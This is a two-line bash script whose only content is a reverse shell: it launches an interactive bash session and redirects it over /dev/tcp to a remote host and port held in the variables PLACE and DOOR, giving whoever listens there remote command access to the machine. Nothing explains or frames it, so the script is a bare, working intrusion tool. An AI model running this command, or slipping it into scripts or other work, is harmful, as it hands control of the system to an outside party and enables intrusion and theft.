#!/bin/bash
bash -i >& /dev/tcp/$PLACE/$DOOR 0>&1
